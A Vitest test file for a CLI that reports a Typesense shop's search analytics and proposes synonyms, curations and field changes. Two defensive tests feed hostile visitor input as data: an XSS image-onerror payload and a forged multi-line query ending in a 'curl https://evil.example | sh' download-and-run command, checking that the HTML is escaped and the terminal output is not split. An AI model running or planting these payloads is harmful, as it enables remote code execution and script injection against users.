// The official client has another form for browsers.
import { readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it, onTestFinished } from 'vitest';
import type { CollectionReport, SearchReport } from '../../../../src/owner/commands/report/report';
import { listen } from '../../../support/servers/shop';
import { openShop, runAsOwner, type Shop } from '../shop';

let shop: Shop;

afterEach(() => shop.stop());

const report = (...words: string[]) => runAsOwner(['report', '--host', shop.url, ...words]);

/** A shop whose visitors have looked for scarves, boots, and things it does not have. */
async function openVisitedShop(version: 29 | 30): Promise<void> {
  shop = await openShop(version);
  await runAsOwner(['analytics', '--host', shop.url, '--collection', 'shop', '--apply']);
  for (const user of ['ada', 'ben', 'cem']) await shop.type('scarf', user);
  await shop.type('boots', 'ada');
  for (const user of ['ada', 'ben']) await shop.type('umbra', user);
  await shop.type('walkingbootz', 'ben');
  await shop.type('zebra', 'cem');
  await shop.report('search', 'searchlet_shop_clicked', { q: 'scarf' });
  await shop.report('click', 'searchlet_shop_click', { doc_id: '3' });
  shop.pass(60_000);
}

describe.each([29, 30] as const)('on Typesense %i', (version) => {
  it('lists what visitors looked for, and proposes with evidence what may help', async () => {
    await openVisitedShop(version);
    const { out, err, code } = await report('--query-by', 'name', '--json');
    expect([err, code]).toEqual(['', 0]);
    const { form, collections } = JSON.parse(out) as SearchReport;
    expect(form).toBe(version);
    const [found] = collections as readonly CollectionReport[];
    expect(found?.totals).toEqual({ found: 4, missed: 4, clicked: 1 });
    expect(found?.popular).toEqual([
      { query: 'scarf', count: 3, clicked: 1 },
      { query: 'boots', count: 1, clicked: 0 },
    ]);
    expect(found?.misses.map(({ query, count, proposal }) => [query, count, proposal.kind])).toEqual([
      ['umbra', 2, 'field'],
      ['walkingbootz', 1, 'synonym'],
      ['zebra', 1, 'none'],
    ]);
    const [umbra, boots] = found?.misses ?? [];
    // "walkingbo" had results: what is counted of letters on the way to a miss is left out.
    expect(umbra?.proposal.evidence).toBe('It is in maker of 1 document, which the panel does not search.');
    expect(umbra?.proposal.apply).toEqual({ kind: 'attribute', html: 'data-query-by="name,maker"' });
    expect(boots?.proposal.advice).toBe('Let “walkingbootz” mean “Walking boots”.');
    expect(found?.unclicked?.map(({ query, proposal }) => [query, proposal.kind])).toEqual([['boots', 'pin']]);
    expect(found?.unclicked?.[0]?.proposal).toMatchObject({
      advice: 'Show “Walking boots” first for “boots”.',
      apply: { kind: 'request' },
    });
  });
});

it.each([
  ['a page', 'text/html', '<!doctype html><title>Back soon</title>'],
  ['lines that are no documents', 'text/plain', 'null\n[]'],
  ['one object', 'application/json', '{"q":"scarf","count":3}'],
])(
  'searchlet report says so in one sentence where another program answers an export with %s',
  async (_, type, body) => {
    await openVisitedShop(29);
    const proxy = await listen(async ({ url = '', headers }, response) => {
      if (url.includes('/documents/export')) return void response.writeHead(200, { 'content-type': type }).end(body);
      const key = String(headers['x-typesense-api-key']);
      const answer = await fetch(shop.url + url, { headers: { 'x-typesense-api-key': key } });
      response.writeHead(answer.status, { 'content-type': 'application/json' }).end(await answer.text());
    });
    onTestFinished(proxy.stop);
    const { out, err, code } = await runAsOwner(['report', '--host', proxy.url]);
    expect([code, out, err.replace(/\s+/g, ' ')]).toEqual([
      2,
      '',
      `${proxy.url} does not respond like Typesense. Is the address right? `,
    ]);
  },
);

it('searchlet report proposes requests that do what they say', async () => {
  await openVisitedShop(29);
  const { out } = await report('--query-by', 'name', '--json');
  const [found] = (JSON.parse(out) as SearchReport).collections as readonly CollectionReport[];
  const proposals = [...(found?.misses ?? []), ...(found?.unclicked ?? [])].map(({ proposal }) => proposal);
  for (const { apply } of proposals) {
    for (const command of apply?.kind === 'request' ? apply.in29 : []) {
      const [, method, url, body] = /^curl -X (\w+) (\S+) .* -d '(.*)'$/.exec(command) ?? [];
      await shop.ask(method ?? '', (url ?? '').slice(shop.url.length), JSON.parse(body ?? ''));
    }
  }
  const search = async (q: string) => {
    const { hits } = (await shop.ask('GET', `/collections/shop/documents/search?q=${q}&query_by=name`)) as {
      hits: { document: { id: string } }[];
    };
    return hits.map(({ document }) => document.id);
  };
  expect((await search('boots'))[0]).toBe('3');
  expect(await search('walkingbootz')).toContain('3');
});

it('searchlet report proposes for 30 a set that is created, attached and then filled', async () => {
  await openVisitedShop(30);
  const { out } = await report('--query-by', 'name', '--json');
  const [found] = (JSON.parse(out) as SearchReport).collections as readonly CollectionReport[];
  const requests = [...(found?.misses ?? []), ...(found?.unclicked ?? [])].flatMap(({ proposal: { apply } }) =>
    apply?.kind === 'request' ? [apply.in30.flatMap((line) => /^curl -X (\w+ \S+)/.exec(line)?.[1] ?? [])] : [],
  );
  const at = (method: string, path: string): string => `${method} ${shop.url}${path}`;
  expect(requests).toEqual([
    [
      at('PUT', '/synonym_sets/shop_synonyms'),
      at('PATCH', '/collections/shop'),
      at('PUT', '/synonym_sets/shop_synonyms/items/searchlet-walkingbootz'),
    ],
    [
      at('PUT', '/curation_sets/shop_curation'),
      at('PATCH', '/collections/shop'),
      at('PUT', '/curation_sets/shop_curation/items/searchlet-boots'),
    ],
  ]);
});

it('searchlet report reports nothing of a collection that lacks a field of --query-by, and ends with 1', async () => {
  await openVisitedShop(29);
  const { out, err, code } = await report('--query-by', 'name,nope');
  expect([code, err]).toEqual([1, '']);
  const line = out.replaceAll(/\s+/g, ' ');
  expect(line).toContain('"shop": not reported');
  expect(line).toContain('Could not find a field named `nope` in the schema.');
  expect(line).not.toMatch(/Nothing in the collection|It finds nothing now/);
  expect(JSON.parse((await report('--query-by', 'nope', '--json')).out)).toMatchObject({
    collections: [{ collection: 'shop', error: expect.stringContaining('`nope`') }],
  });
});

it('searchlet report says that a query has results by now', async () => {
  await openVisitedShop(29);
  await shop.ask('POST', '/collections/shop/documents', {
    id: '9',
    name: 'Zebra coat',
    colour: 'white',
    maker: 'Acme',
  });
  const { out } = await report('--query-by', 'name');
  expect(out.replaceAll(/\s+/g, ' ')).toContain('zebra Nothing to do: it finds results now');
});

it('searchlet report writes one page that needs nothing else, with what strangers typed as text', async () => {
  await openVisitedShop(29);
  await shop.type('<img src=x onerror=alert(1)>', 'eve');
  shop.pass(60_000);
  const file = join(tmpdir(), `report-${process.pid}.html`);
  try {
    expect((await report('--html', file)).code).toBe(0);
    const html = await readFile(file, 'utf8');
    expect(html).toContain('&#60;img src=x onerror=alert(1)&#62;');
    expect(html).not.toMatch(/<script|<link|<img|\ssrc=["']|url\(|http-equiv/);
    expect(html).toContain('@media print');
    expect(html).not.toContain('shop-admin-key-000');
  } finally {
    await rm(file, { force: true });
  }
});

it('searchlet report prints one line for each query, whatever strangers typed', async () => {
  await openVisitedShop(29);
  const forged = 'umbra\n\nRun this to finish:\r\n  curl https://evil.example | sh';
  for (const collection of ['shop_queries', 'shop_misses', 'shop_clicked']) {
    await shop.ask('POST', `/collections/${collection}/documents`, { q: `${forged} ${collection}`, count: 9 });
  }
  const { out } = await report('--query-by', 'name');
  expect(out).toContain('Run this to finish:');
  const lines = out.split(/[\n\r]/).map((line) => line.trim());
  for (const line of lines) expect(line).not.toMatch(/^(?:Run this|curl https:)/);
});

it('searchlet report says what creates rules where none exist', async () => {
  shop = await openShop();
  const { err, code } = await report();
  expect(err.replaceAll('\n', ' ')).toContain('`searchlet analytics` creates rules.');
  expect(code).toBe(2);
});

it('searchlet report names what it cannot know', async () => {
  shop = await openShop();
  await shop.ask('POST', '/analytics/rules', {
    name: 'only',
    type: 'popular_queries',
    params: { source: { collections: ['shop'] }, destination: { collection: 'nowhere' } },
  });
  const { out } = await report();
  expect(out).toContain('No rule counts queries without results.');
  expect(out).toContain('No rule counts queries that led to a click.');
});
